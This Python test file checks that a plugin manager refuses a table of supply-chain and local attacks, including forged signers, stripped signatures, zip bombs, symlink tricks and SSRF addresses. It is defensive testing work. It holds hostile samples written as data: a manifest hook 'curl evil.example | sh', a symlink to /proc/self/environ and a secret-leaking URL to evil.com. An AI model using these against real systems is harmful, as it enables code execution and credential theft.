"""The attack table: what an attacker holds, what is tried, which check stops it, with which code.

Each row is an attack that is carried out for real against an operator's machine; the test holds
the refusal's code, its exit status and that nothing changed. docs/generate.py writes the table
into docs/explanation/security.md.
"""

from __future__ import annotations

import json
import shutil
import tempfile
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import sigstore.verify

from aperio_cli import clock, publishing
from aperio_cli.archive import writing
from aperio_cli.config import Config, DomainRule, PublisherFile, load_config
from aperio_cli.errors import AperioError
from aperio_cli.files import owning
from aperio_cli.host.calls.session import SessionRequest, open_session
from aperio_cli.models.artifact import BUNDLE_SUFFIX
from aperio_cli.models.digest import Digest
from aperio_cli.models.evidence import ExceptionGranted
from aperio_cli.models.plugin_id import PluginRef
from aperio_cli.models.policy import Policy, PolicyException
from aperio_cli.models.proof import SBOM_TYPE
from aperio_cli.models.publisher import LOCAL_ISSUER, Demands, PublisherRule
from aperio_cli.models.publisher_file import SCHEMA
from aperio_cli.paths import Paths
from aperio_cli.proving.signature import require_usable
from aperio_cli.registry import open_registry
from aperio_cli.signing.local import authority
from aperio_cli.signing.local.authority import LeafIdentity
from aperio_cli.store.installed import Store
from aperio_cli.trust.publisher_files import PublisherFileRequest, verify_publisher_file
from aperio_cli.trust.roots import trusted_roots
from tests.builders import LINUX, go_members, manifest_bytes
from tests.process.conftest import Host
from tests.security.registry_rows import TWINS
from tests.security.table import ATTACKS, Attack, attack
from tests.security.test_install_refusals import bomb
from tests.security.world import (
    BOX,
    DOMAIN,
    World,
    attest,
    beside,
    change_bundle,
    digest_of,
    rule,
    sign,
)
from tests.simulators.greedy import greedy
from tests.trust import HOSTED_BUILDER, REPOSITORY, Forge, new_domain, provenance

if TYPE_CHECKING:
    from collections.abc import Callable

    from aperio_cli.host.launch import RunningPlugin
    from aperio_cli.models.publisher_file import PublisherList
    from aperio_cli.signing.local import LocalDomain
    from aperio_cli.trust.signed_document import SignedDocument

# ── the table ─────────────────────────────────────────────────────────────────────────────────────


EVIL = "https://github.com/evil/box"
_SECURITY_TEAM = LeafIdentity("security@acme.example", LOCAL_ISSUER)


BYTES = "digest in the offer, and of the file that was signed"
PROOF = "the bundle, verified against the operator's trusted roots"
RULE = "the operator's rule, field by field"
MANIFEST = "the manifest inside compared with the offer"
MEMORY = "the receipt of the installed version"
CRASH = "every unforeseen error is a refusal"
POLICY = "the policy, asked again before each start"
ARCHIVE = "the archive reader, before anything is written"
STATEMENT = "statements are verified like signatures and held to the certificate"

# ── the way to the artifact ───────────────────────────────────────────────────────────────────────


@attack(
    holds="the network, a mirror or the bucket",
    tries="serves other bytes than were published",
    stopped_by=BYTES,
    code="artifact-digest-mismatch",
)
def _other_bytes(world: World) -> None:
    offer = world.offered(world.signed())
    other = world.signed(description="evil")
    (world.root / "registry" / other.name).write_bytes(other.read_bytes())
    world.install(offer)


@attack(
    holds="the registry's index",
    tries="offers an artifact of its own, with its digest, and keeps the publisher's bundle",
    stopped_by=PROOF,
    code="signature-digest-mismatch",
)
def _other_bytes_and_digest(world: World) -> None:
    evil = world.signed(description="evil")
    genuine = world.signed()
    shutil.copy(beside(genuine, BUNDLE_SUFFIX), beside(evil, BUNDLE_SUFFIX))
    world.install(world.offered(evil))


@attack(
    holds="the registry's index",
    tries="signs as itself and names itself, verified, as the publisher",
    stopped_by="publishers come from the operator, never from an index",
    code="signature-identity-mismatch",
)
def _own_publisher(world: World) -> None:
    evil = world.signed(forge=world.forge(repository=EVIL))
    world.install(world.offered(evil, publisher={"name": "acme", "verified": True}))


@attack(
    holds="the registry's index",
    tries="leaves out the digest, hoping that a missing one is not compared",
    stopped_by="an index without it is not read",
    code="index-unreadable",
)
def _no_digest(world: World) -> None:
    world.install(world.offered(world.signed(), sha256=""))


@attack(
    holds="the registry's index",
    tries="sends more bytes than it stated, without end",
    stopped_by="a limit on every read",
    code="response-too-large",
)
def _endless(world: World) -> None:
    artifact = world.signed()
    stated = {"os": "linux", "arch": "amd64", "url": artifact.name, "size": 100}
    stated |= {"sha256": digest_of(artifact).hex, "sigstore_bundle": "{}"}
    world.install(world.offered(artifact, artifacts=[stated]))


@attack(
    holds="the registry's index",
    tries="fills it with so many empty objects that reading it takes gigabytes of memory",
    stopped_by="a limit on members, counted before a parser sees them",
    code="index-unreadable",
)
def _index_of_many_members(world: World) -> None:
    many: list[dict[str, str]] = [{}] * 1_000_000
    world.install(world.offered(world.signed(), future=many))


@attack(
    holds="the registry's index",
    tries="names a file of the operator's as the artifact",
    stopped_by="locations stay inside the registry",
    code="index-unreadable",
)
def _leads_out(world: World) -> None:
    world.install(world.offered(world.signed(), download_url="../../home/config.toml"))


@attack(
    holds="an artifact file that the operator was given",
    tries="is not signed at all",
    stopped_by="absence refuses",
    code="signature-missing",
)
def _unsigned(world: World) -> None:
    world.install(world.artifact())


@attack(
    holds="the registry's index",
    tries="strips the bundle",
    stopped_by="absence refuses",
    code="signature-missing",
)
def _stripped_bundle(world: World) -> None:
    world.install(world.offered(world.signed(), sigstore_bundle=""))


@attack(
    holds="the registry's index",
    tries="offers an old, genuine artifact as a new version",
    stopped_by=RULE + ": the ref that was built names the version",
    code="signature-identity-mismatch",
)
def _old_as_new(world: World) -> None:
    world.install(world.offered(world.signed(version="1.0.0"), version="2.0.0"))


@attack(
    holds="the registry's index, and a rule of the operator that names a person",
    tries="offers an old, genuine artifact as a new version",
    stopped_by=MANIFEST,
    code="manifest-mismatch",
)
def _old_as_new_of_a_person(world: World) -> None:
    person = rule(ci=None, identity="release@acme.example", issuer="https://accounts.acme.example")
    forge = world.forge().but(
        identity=LeafIdentity("release@acme.example", "https://accounts.acme.example")
    )
    old = world.signed(forge=forge, version="1.0.0")
    world.but(policy=Policy((person,))).install(world.offered(old, version="2.0.0"))


@attack(
    holds="the registry's index",
    tries="offers another plugin of the same publisher under this name",
    stopped_by=MANIFEST,
    code="manifest-mismatch",
)
def _other_plugin(world: World) -> None:
    world.install(world.offered(world.signed(id="acme/other-connector")))


@attack(
    holds="an artifact file that the operator was given",
    tries="names a namespace in its manifest for which no rule exists",
    stopped_by="no rule, no admission",
    code="publisher-unknown",
)
def _unlisted_namespace(world: World) -> None:
    world.install(world.signed(id="unlisted/box-connector"))


@attack(
    holds="the publisher's signing identity",
    tries="releases a version again with other contents",
    stopped_by=MEMORY,
    code="version-changed",
)
def _released_again(world: World) -> None:
    world.install(world.signed(version="1.0.0", description="the same version, other contents"))


# ── who signed ────────────────────────────────────────────────────────────────────────────────────


def _by(**changes: str) -> Callable[[World], object]:
    def attempt(world: World) -> object:
        return world.install(world.signed(forge=world.forge(**changes)))

    return attempt


def _signer_attack(name: str, holds: str, tries: str, **changes: str) -> None:
    attempt = _by(**changes)
    attempt.__name__ = name
    attack(holds=holds, tries=tries, stopped_by=RULE, code="signature-identity-mismatch")(attempt)


_REUSABLE = "https://github.com/evil/ci/.github/workflows/sign.yml@refs/tags/v1"
_OWN_CI = "a repository and its CI, on the same Sigstore instance"
_PUSH = "the right to push to the publisher's repository"
_signer_attack(
    "take_over", _OWN_CI, "signs for the name with a valid proof of its own",
    repository="https://github.com/evil/aperio-plugin-box", owner_id="6", repository_id="7",
)  # fmt: skip
_signer_attack(
    "registered_again", "the publisher's old name, after a rename or deletion",
    "builds in a repository of the same name: same names, other numeric ids",
    owner_id="6", repository_id="7",
)  # fmt: skip
_signer_attack(
    "repository_made_anew", "the publisher's organization",
    "builds in a new repository of the old name: same owner, other repository id",
    repository_id="7",
)  # fmt: skip
_signer_attack(
    "longer_name", _OWN_CI, "takes a name that begins like the publisher's",
    repository=REPOSITORY + "-evil", owner_id="6", repository_id="7",
)  # fmt: skip
_signer_attack(
    "other_workflow", _PUSH, "signs in a workflow of its own",
    workflow=".github/workflows/evil.yml",
)  # fmt: skip
_signer_attack(
    "other_branch", _PUSH, "signs from a branch instead of the version's tag",
    ref="refs/heads/v1.2.3",
)  # fmt: skip
_signer_attack("other_tag", _PUSH, "signs from the tag of another version", ref="refs/tags/v9.9.9")
_signer_attack(
    "own_runner", "a self-hosted runner of the publisher", "builds on it", runner="self-hosted"
)
_signer_attack(
    "other_signing_workflow", "a reusable workflow that the publisher calls",
    "signs there what it likes", signer=_REUSABLE,
)  # fmt: skip


@attack(
    holds="an OIDC issuer that the Sigstore instance accepts",
    tries="issues a token with the publisher's claims",
    stopped_by=RULE,
    code="signature-identity-mismatch",
)
def _other_issuer(world: World) -> None:
    forge = world.forge()
    forged = replace(forge.identity, issuer="https://evil.example")
    world.install(world.signed(forge=forge.but(identity=forged)))


@attack(
    holds="a repository that calls the same reusable signing workflow",
    tries="is signed for by the workflow that the rule names",
    stopped_by=RULE + ": the caller's repository counts too",
    code="signature-identity-mismatch",
)
def _other_caller(world: World) -> None:
    shared = "https://github.com/acme/ci/.github/workflows/sign.yml@refs/tags/v2"
    ci = rule().ci
    assert ci
    stated = rule(ci=replace(ci, signer_workflow=shared))
    forge = world.forge(repository=EVIL, owner_id="6", repository_id="7", signer=shared)
    world.but(policy=Policy((stated,))).install(world.signed(forge=forge))


@attack(
    holds="a repository that calls a reusable workflow which a rule names as if it were a person",
    tries="has it sign",
    stopped_by=RULE + ": an identity alone names no build",
    code="signature-identity-mismatch",
)
def _caller_of_an_identity(world: World) -> None:
    shared = "https://github.com/acme/ci/.github/workflows/sign.yml@refs/tags/v2"
    forge = world.forge(repository=EVIL, owner_id="6", repository_id="7", signer=shared)
    stated = rule(ci=None, identity=shared)
    world.but(policy=Policy((stated,))).install(world.signed(forge=forge))


@attack(
    holds="a signing identity that the operator trusted until a day",
    tries="signs after that day",
    stopped_by=RULE + ": dates are compared with the proved time",
    code="signature-identity-mismatch",
)
def _after_its_time(world: World) -> None:
    ended = Policy((rule(valid_until="2026-01-01T23:59:59Z"),))
    world.but(policy=ended).install(world.signed())


@attack(
    holds="a local trust domain of its own",
    tries="offers what is signed there to a machine that did not make that domain",
    stopped_by=PROOF,
    code="trust-domain-unknown",
)
def _foreign_local_domain(world: World) -> None:
    forge = Forge.of(world.elsewhere).but(identity=LeafIdentity("alice@local", LOCAL_ISSUER))
    world.install(world.signed(forge=forge))


@attack(
    holds="a Sigstore instance of its own",
    tries="certifies itself with the publisher's claims",
    stopped_by=PROOF,
    code="trust-domain-unknown",
)
def _own_instance(world: World) -> None:
    world.install(
        world.signed(forge=Forge.of(world.elsewhere).but(identity=world.forge().identity))
    )


@attack(
    holds="the signing identity of another publisher whom the operator trusts, too",
    tries="releases the next version of an installed plugin",
    stopped_by=MEMORY + ": a new signer has to be named",
    code="signer-changed",
)
def _signer_changed(world: World) -> None:
    other = ".github/workflows/nightly.yml"
    ci = rule().ci
    assert ci
    both = Policy((rule(), rule(ci=replace(ci, workflow=other))))
    world.but(policy=both).install(world.signed(forge=world.forge(workflow=other)))


@attack(
    holds="an operator who grants an exception",
    tries="follows a signed version with an unsigned one",
    stopped_by=MEMORY + ": provenance never falls",
    code="signer-changed",
)
def _unsigned_after_signed(world: World) -> None:
    until = (clock.now().date() + timedelta(days=1)).isoformat()
    world.install(world.artifact(), exception=ExceptionGranted("unsigned", until, "a trial"))


# ── the proof ─────────────────────────────────────────────────────────────────────────────────────


@attack(
    holds="the file",
    tries="brings a bundle without a log entry",
    stopped_by=PROOF,
    code="bundle-malformed",
)
def _no_log_entry(world: World) -> None:
    world.install(
        change_bundle(world.signed(), lambda b: b["verificationMaterial"].update(tlogEntries=[]))
    )


@attack(
    holds="the registry's index",
    tries="sends a bundle of so many members that reading it takes gigabytes of memory",
    stopped_by="a limit on members, counted before a parser sees them",
    code="bundle-malformed",
)
def _bundle_of_many_members(world: World) -> None:
    many: list[dict[str, str]] = [{}] * 200_000
    path = change_bundle(
        world.signed(), lambda b: b["verificationMaterial"].update(tlogEntries=many)
    )
    world.install(world.offered(path))


@attack(
    holds="a transparency log of its own",
    tries="logs there",
    stopped_by=PROOF,
    code="signature-invalid",
)
def _foreign_log(world: World) -> None:
    other = Forge.of(world.elsewhere).log
    world.install(world.signed(forge=world.forge().but(log=other)))


@attack(
    holds="a timestamp authority of its own",
    tries="stamps the time it likes",
    stopped_by=PROOF,
    code="signature-invalid",
)
def _foreign_timestamp(world: World) -> None:
    other = Forge.of(world.elsewhere).timestamps
    world.install(world.signed(forge=world.forge().but(timestamps=other)))


@attack(
    holds="the key of an authority that was retired",
    tries="issues a certificate after the end that the trusted root states",
    stopped_by=PROOF + ", each part only within its dates",
    code="signature-invalid",
)
def _retired_authority(world: World) -> None:
    document = json.loads(world.instance.trusted_root_json())
    for stated in document["certificateAuthorities"]:
        stated["validFor"] |= {"end": "2026-01-01T00:00:00Z", "start": "2025-01-01T00:00:00Z"}
    world.but(trusted_root=json.dumps(document)).install(world.signed())


@attack(
    holds="an authority's signing service",
    tries="certifies a key for hours instead of minutes",
    stopped_by=PROOF + ": a certificate lives an hour at most",
    code="signature-invalid",
)
def _long_certificate(world: World) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(authority, "LEAF_LIFETIME", timedelta(hours=8))
        signed = world.signed()
    world.install(signed)


@attack(
    holds="a bug that makes the verifier crash",
    tries="sends what triggers it",
    stopped_by=CRASH,
    code="verifier-crashed",
)
def _crash(world: World) -> None:
    signed = world.signed()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sigstore.verify.Verifier, "verify_artifact", _crash_of_sigstore)
        world.install(signed)


def _crash_of_sigstore(*_: object) -> None:
    message = "index out of bounds"
    raise AssertionError(message)


@attack(
    holds="a bug that makes the verifier check nothing",
    tries="sends what makes it say nothing",
    stopped_by="an answer without a certificate is no answer",
    code="signature-invalid",
)
def _nothing_checked(world: World) -> None:
    signed = world.signed()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sigstore.verify.Verifier, "verify_artifact", lambda *_: None)
        world.install(signed)


# ── registries that others have written ───────────────────────────────────────────────────────────

NO_LINKS = "below a registry's folder no link is followed"


def _clone(world: World) -> Path:
    """The source of a registry with one honest artifact, as a maintainer or a CI job has it."""
    source = world.root / "clone"
    publishing.init(source)
    request = publishing.AddRequest(
        source, str(world.signed()), world.policy, world.roots, LINUX, offline=True
    )
    publishing.add(request)
    publishing.build(source)
    return source


@attack(
    holds="a registry's repository, which somebody clones",
    tries="tracks `public` as a link to the cloner's `.ssh` and has the index built into it",
    stopped_by=NO_LINKS,
    code="file-not-regular",
)
def _linked_output(world: World) -> None:
    source = _clone(world)
    (source / "public").rename(world.root / "elsewhere")
    (source / "public").symlink_to(world.root / "elsewhere")
    publishing.build(source)


@attack(
    holds="a registry's repository, which somebody clones",
    tries="has an artifact written under the name `authorized_keys`",
    stopped_by="an artifact has the one name that its manifest gives it",
    code="registry-source-invalid",
)
def _other_file_name(world: World) -> None:
    source = _clone(world)
    record = source / "records/acme/box-connector.json"
    document = json.loads(record.read_text())
    document["versions"][0]["artifacts"][0]["file"] = "authorized_keys"
    record.write_text(json.dumps(document))
    publishing.build(source)


@attack(
    holds="the right to propose a change to a registry, whose CI builds it",
    tries="adds a bundle that is a link to `/proc/self/environ`, so that secrets are published",
    stopped_by=NO_LINKS,
    code="file-not-regular",
)
def _environment_as_bundle(world: World) -> None:
    source = _clone(world)
    bundle = next(source.glob(f"artifacts/**/*{BUNDLE_SUFFIX}"))
    bundle.unlink()
    bundle.symlink_to("/proc/self/environ")
    publishing.build(source)


@attack(
    holds="a folder that is read as a registry",
    tries="has the client read files elsewhere on its machine, through a folder that is a link",
    stopped_by=NO_LINKS,
    code="file-not-regular",
)
def _linked_registry(world: World) -> None:
    folder = _clone(world) / "public"
    (folder / "artifacts").rename(world.root / "elsewhere")
    (folder / "artifacts").symlink_to(world.root / "elsewhere")
    registry = open_registry(str(folder), Config(), world.machine.paths, offline=True)
    world.install(registry.resolve(PluginRef(BOX, None), LINUX))


@attack(
    holds="a folder that is read as a registry",
    tries="has the client ask a service on its own machine, as the place of a bundle",
    stopped_by="an index points to this machine only when it was read from it over http",
    code="index-unreadable",
)
def _index_asks_this_machine(world: World) -> None:
    world.offered(world.signed(), sigstore_bundle="http://127.0.0.1:9/metrics")


@attack(
    holds="the registry's index",
    tries="writes an address of the client's own machine as one number",
    stopped_by="a host in another notation than everybody reads counts as no machine",
    code="index-unreadable",
)
def _index_asks_this_machine_in_disguise(world: World) -> None:
    world.offered(world.signed(), download_url="https://2130706433/x")


# ── statements ────────────────────────────────────────────────────────────────────────────────────

_DEMANDING = Demands(provenance=True)


@attack(
    holds="the registry's index",
    tries="strips the provenance that the operator demands",
    stopped_by="absence refuses",
    code="provenance-missing",
)
def _no_provenance(world: World) -> None:
    world.but(policy=Policy((rule(demands=_DEMANDING),))).install(world.signed())


@attack(
    holds="the registry's index",
    tries="sends an empty file of attestations, so that there is nothing to check",
    stopped_by="absence refuses",
    code="attestation-malformed",
)
def _empty_attestations(world: World) -> None:
    demanding = world.but(policy=Policy((rule(demands=_DEMANDING),)))
    demanding.install(attest(world.signed()))


@attack(
    holds="genuine provenance of another artifact",
    tries="puts it beside this one",
    stopped_by=STATEMENT,
    code="signature-digest-mismatch",
)
def _foreign_provenance(world: World) -> None:
    other = world.forge().statement(Digest.of(b"another"))
    world.install(attest(world.signed(), other))


@attack(
    holds="a workflow of its own",
    tries="attests for the publisher's artifact",
    stopped_by="provenance counts only from whom the rule names",
    code="provenance-mismatch",
)
def _provenance_by_another(world: World) -> None:
    signed = world.signed()
    stated = world.forge(repository=EVIL).statement(
        digest_of(signed), predicate=provenance(repository=EVIL)
    )
    demanding = world.but(policy=Policy((rule(demands=_DEMANDING),)))
    demanding.install(attest(signed, stated))


@attack(
    holds="the publisher's signing job",
    tries="claims another source repository than the certificate states",
    stopped_by=STATEMENT,
    code="provenance-mismatch",
)
def _other_source(world: World) -> None:
    signed = world.signed()
    stated = world.forge().statement(
        digest_of(signed), predicate=provenance(repository="https://github.com/acme/innocent")
    )
    world.install(attest(signed, stated))


@attack(
    holds="a builder that the operator does not trust",
    tries="builds there",
    stopped_by="the demanded builder is compared exactly",
    code="provenance-mismatch",
)
def _other_builder(world: World) -> None:
    signed = world.signed()
    stated = world.forge().statement(
        digest_of(signed), predicate=provenance(builder="https://evil.example/builder")
    )
    demanding = world.but(policy=Policy((rule(demands=Demands(builder=HOSTED_BUILDER)),)))
    demanding.install(attest(signed, stated))


@attack(
    holds="a signed statement about the artifact that says something else than who made it",
    tries="offers an SBOM's signature as the artifact's",
    stopped_by="only provenance and release statements count as a signature",
    code="signature-invalid",
)
def _sbom_as_signature(world: World) -> None:
    path = world.signed()
    bill = world.forge().statement(digest_of(path), predicateType=SBOM_TYPE, predicate={})
    beside(path, BUNDLE_SUFFIX).write_bytes(bill)
    world.install(path)


# ── the archive ───────────────────────────────────────────────────────────────────────────────────


@attack(
    holds="the publisher's signing identity",
    tries="ships a few kilobytes that unpack to hundreds of megabytes",
    stopped_by=ARCHIVE,
    code="archive-too-large",
)
def _bomb(world: World) -> None:
    path = world.artifact()
    path.write_bytes(bomb())
    sign(path, world.forge())
    world.install(path)


@attack(
    holds="the publisher's signing identity",
    tries="has a command run at installation",
    stopped_by="there are no hooks; unknown keys of a manifest refuse",
    code="manifest-invalid",
)
def _hook(world: World) -> None:
    path = world.artifact()
    hooked = manifest_bytes() + b"hooks:\n  install: curl evil.example | sh\n"
    writing.write(path, [writing.Member("manifest.yaml", hooked), *go_members()[1:]], mtime=0)
    sign(path, world.forge())
    world.install(path)


# ── what is installed ─────────────────────────────────────────────────────────────────────────────


@attack(
    holds="write access to the installed files, while the plugin is not running",
    tries="changes the binary",
    stopped_by="every file is hashed before each start",
    code="files-changed",
)
def _changed_binary(world: World) -> None:
    binary = world.machine.store.get(PluginRef(BOX, None)).files / "bin" / "box-connector"
    binary.chmod(0o755)
    binary.write_bytes(b"evil\n")
    world.start()


@attack(
    holds="write access to the installed files",
    tries="adds a file that the plugin would load",
    stopped_by="every file is hashed before each start",
    code="files-changed",
)
def _added_file(world: World) -> None:
    files = world.machine.store.get(PluginRef(BOX, None)).files
    files.joinpath("bin").chmod(0o755)
    (files / "bin" / "extra.so").write_bytes(b"evil\n")
    world.start()


@attack(
    holds="a machine that was switched off in the middle of an installation",
    tries="has half a version taken for an installed one",
    stopped_by="the receipt is written last, one rename commits",
    code="not-installed",
)
def _half_installed(world: World) -> None:
    store = world.machine.store
    receipt = store.get(PluginRef(BOX, None))
    (receipt.folder / "receipt.json").unlink()
    world.start()


@attack(
    holds="an installed plugin whose rule the operator has removed",
    tries="goes on running",
    stopped_by=POLICY,
    code="publisher-unknown",
)
def _rule_removed(world: World) -> None:
    world.but(policy=Policy()).start()


@attack(
    holds="an installed plugin whose rule the operator has narrowed",
    tries="goes on running",
    stopped_by=POLICY,
    code="signature-identity-mismatch",
)
def _rule_narrowed(world: World) -> None:
    ci = rule().ci
    assert ci
    world.but(policy=Policy((rule(ci=replace(ci, owner_id="9")),))).start()


@attack(
    holds="an installed plugin of a publisher whom nobody has verified",
    tries="runs for an organization that requires verified publishers",
    stopped_by=POLICY,
    code="publisher-unverified",
)
def _not_verified(world: World) -> None:
    policy = Policy((rule(tier="community"),), organizations=(("prod", "verified"),))
    world.but(policy=policy).start(organization="prod")


@attack(
    holds="an exception that has ended",
    tries="goes on running",
    stopped_by=POLICY,
    code="exception-expired",
)
def _exception_ended(world: World) -> None:
    ended = PolicyException(BOX, "", "unverified", "2026-01-01", "a trial")
    policy = Policy((rule(tier="community"),), require="verified", exceptions=(ended,))
    world.but(policy=policy).start()


@attack(
    holds="the operator's account, on a machine whose site requires signatures",
    tries="excepts a plugin from them",
    stopped_by="the site's configuration is a floor",
    code="signature-missing",
)
def _below_the_floor(world: World) -> None:
    folder = world.root / "floor"
    folder.mkdir()
    site, user = folder / "site.toml", folder / "config.toml"
    site.write_text('[policy]\nrequire = "signed"\n')
    until = (clock.now().date() + timedelta(days=1)).isoformat()
    user.write_text(
        f'[[exceptions]]\nplugin = "acme/box-connector"\nrule = "unsigned"\n'
        f'until = {until}\nreason = "a trial"\n'
    )
    policy = load_config(Paths(folder, user, folder / "cache"), site_file=site).policy
    world.but(policy=policy).install(world.artifact())


@attack(
    holds="another account on the machine",
    tries="adds a rule of its own to a configuration file that everybody may write",
    stopped_by="such a file is not read",
    code="path-shared",
)
def _shared_configuration(world: World) -> None:
    file = world.root / "config.toml"
    file.write_text(rule().to_toml())
    file.chmod(0o1666)  # a sticky file is no better
    load_config(Paths(world.root, file, world.root / "cache"))


@attack(
    holds="another account on the machine",
    tries="swaps the trusted root that `[[domains]] file` names: a folder above it is writable",
    stopped_by="such a root is not used; every folder down from `/` is looked at",
    code="trust-root-invalid",
)
def _shared_root(world: World) -> None:
    folder = world.root / "shared" / "ours"
    folder.mkdir(parents=True)
    root = folder / "trusted_root.json"
    root.write_text(world.elsewhere.trusted_root_json())
    folder.parent.chmod(0o777)
    config = Config(domains=(DomainRule(DOMAIN, root, "", None, "config.toml"),))
    require_usable(trusted_roots(config, world.machine.paths)[0], clock.now())


@attack(
    holds="another account on the machine",
    tries="changes the receipt of an installed plugin, in a home that it may write",
    stopped_by="nothing of such a home is used",
    code="path-shared",
)
def _shared_home(world: World) -> None:
    home = world.machine.paths.home
    home.chmod(0o777)
    owning.forget()
    try:
        Store(world.machine.paths).get(PluginRef(BOX))
    finally:
        home.chmod(0o700)


# ── an installed plugin and the secrets it must not have ──────────────────────────────────────────


CREDENTIALS = {"client_id": "me", "client_secret": "hunter2"}


def _open_session(script: Path, **settings: object) -> None:
    """Have a host open a session with a plugin, up to the token that it would hand over."""

    async def use(plugin: RunningPlugin) -> None:
        await (await open_session(plugin, SessionRequest(settings=settings))).invocation()

    with tempfile.TemporaryDirectory(prefix="rt", dir="/tmp") as short:  # sockets are made below
        Host(Path(short)).run(script, use)


@attack(
    holds="a plugin that you installed",
    tries="declares the client's secret twice, for the host and for itself",
    stopped_by="a declaration has every key once",
    code="plugin-contract-broken",
)
def _secret_declared_twice(world: World) -> None:
    script = greedy(world.root, {"secret": True, "host_only": True}, {"secret": True})
    _open_session(script, base_url="https://api.box.com", **CREDENTIALS)


@attack(
    holds="a plugin that you installed",
    tries="puts the client's secret into the address that messages show",
    stopped_by="no address has a secret in it",
    code="plugin-contract-broken",
)
def _secret_in_the_address(world: World) -> None:
    script = greedy(world.root, {"secret": True}, address="https://evil.com/{client_secret}")
    _open_session(script, base_url="https://api.box.com", **CREDENTIALS)


@attack(
    holds="a plugin that you installed",
    tries="names a port of your machine as the default of its address, which you leave empty",
    stopped_by="an address on this machine has to be in the operator's own setting",
    code="token-url-refused",
)
def _default_on_this_machine(world: World) -> None:
    script = greedy(world.root, {"secret": True}, default='"http://127.0.0.1:9"')
    _open_session(script, base_url="", **CREDENTIALS)


@attack(
    holds="the link that leads to a publisher file, and an older copy that its signer had signed",
    tries="moves the link to the older copy",
    stopped_by="the highest serial is remembered of the required signer, wherever a file lies",
    code="publisher-file-invalid",
)
def _older_publisher_file(world: World) -> None:
    link = world.root / "publishers.json"
    _link(world, link, "new", serial=8)
    assert _publishers(world, link).stated.serial == 8
    _link(world, link, "newer", serial=9)  # as its signer does
    assert _publishers(world, link).stated.serial == 9
    _link(world, link, "old", serial=7)
    _publishers(world, link)


@attack(
    holds="the link that leads to a publisher file, and another file of the same signer",
    tries="moves the link to the other file, which says nothing about the publisher",
    stopped_by="a file's own name is signed with it, and the entry states which is meant",
    code="publisher-file-invalid",
)
def _another_publisher_file(world: World) -> None:
    link = world.root / "publishers.json"
    _link(world, link, "core", serial=1, name="core")
    assert _publishers(world, link, "core").stated.name == "core"
    _link(world, link, "extra", serial=9, name="extra")
    _publishers(world, link, "core")


def _link(world: World, link: Path, folder: str, **stated: object) -> None:
    """Lead a link, and that of the bundle, to a publisher file which its signer signed."""
    path = world.root / folder / link.name
    path.parent.mkdir()
    expires = clock.format_timestamp(clock.now() + timedelta(days=1))
    document = {"schema": SCHEMA, "expires": expires, "publishers": [], **stated}
    path.write_text(json.dumps(document))
    sign(path, world.forge().but(identity=_SECURITY_TEAM))
    for suffix in ("", BUNDLE_SUFFIX):
        place = link.with_name(link.name + suffix)
        place.unlink(missing_ok=True)
        place.symlink_to(path.with_name(path.name + suffix))


def _publishers(world: World, path: Path, name: str = "") -> SignedDocument[PublisherList]:
    """Read a publisher file as a command does."""
    team = PublisherRule("*", DOMAIN, _SECURITY_TEAM.subject, LOCAL_ISSUER, "config.toml")
    memory = world.root / "home" / "trust" / "signed-documents.json"
    request = PublisherFileRequest(PublisherFile(path, team, name), (), world.roots(), memory)
    return verify_publisher_file(request)


# ── carrying them out ─────────────────────────────────────────────────────────────────────────────


@pytest.fixture(scope="module")
def instances(tmp_path_factory: pytest.TempPathFactory) -> tuple[LocalDomain, LocalDomain]:
    """The instance that the operator trusts, and another one."""
    folder = tmp_path_factory.mktemp("instances")
    return (
        new_domain(folder / "trusted"),
        new_domain(folder / "elsewhere"),
    )


@pytest.fixture(scope="module")
def installed(
    tmp_path_factory: pytest.TempPathFactory, instances: tuple[LocalDomain, LocalDomain]
) -> World:
    """A machine on which 1.0.0 is installed."""
    made = World(tmp_path_factory.mktemp("installed"), *instances)
    made.install(made.signed(version="1.0.0"))
    return made


@pytest.fixture
def world(tmp_path: Path, installed: World) -> World:
    """A copy of it, in which there is something to lose."""
    return installed.copied(tmp_path)


def test_honest_release_is_installed_and_starts(world: World) -> None:
    """The control: what every attack starts from is accepted."""
    report = world.install(world.offered(world.signed()))
    assert (report.receipt.version, report.replaced, report.receipt.badge) == (
        "1.2.3",
        "1.0.0",
        "verified",
    )
    world.start()


def test_honest_registry_is_built_and_installed_from(world: World) -> None:
    folder = _clone(world) / "public"
    registry = open_registry(str(folder), Config(), world.machine.paths, offline=True)
    report = world.install(registry.resolve(PluginRef(BOX, None), LINUX))
    assert report.receipt.version == "1.2.3"


def test_honest_provenance_satisfies_the_demand(world: World) -> None:
    signed = world.signed()
    demands = Demands(builder=HOSTED_BUILDER, source_repository=REPOSITORY)
    demanding = world.but(policy=Policy((rule(demands=demands),)))
    demanding.install(attest(signed, world.forge().statement(digest_of(signed))))
    demanding.start()


@pytest.mark.parametrize("attempt", TWINS, ids=lambda attempt: attempt.__name__.strip("_"))
def test_registry_that_does_not_lie_is_installed_from(
    world: World, attempt: Callable[..., object]
) -> None:
    """The control of each row about signed registries: the same, but for the lie."""
    attempt(world, lie=False)
    assert world.machine.store.current_version(BOX) in {"1.2.3", "1.3.0", "1.4.0"}


@pytest.mark.parametrize("row", ATTACKS, ids=lambda row: row.name)
def test_attack_is_refused(world: World, row: Attack) -> None:
    store = world.machine.store
    with pytest.raises(AperioError) as caught:
        row.attempt(world)
    assert caught.value.code == row.code
    assert caught.value.exit_status in {1, 2, 3, 4, 5}
    assert caught.value.next
    if row.code != "not-installed":
        assert store.current_version(BOX) == "1.0.0"
        assert store.versions(BOX) == ["1.0.0"]


def test_attacks_have_names_of_their_own() -> None:
    names = [row.name for row in ATTACKS]
    assert len(set(names)) == len(names)
    assert len({(row.holds, row.tries) for row in ATTACKS}) == len(names)
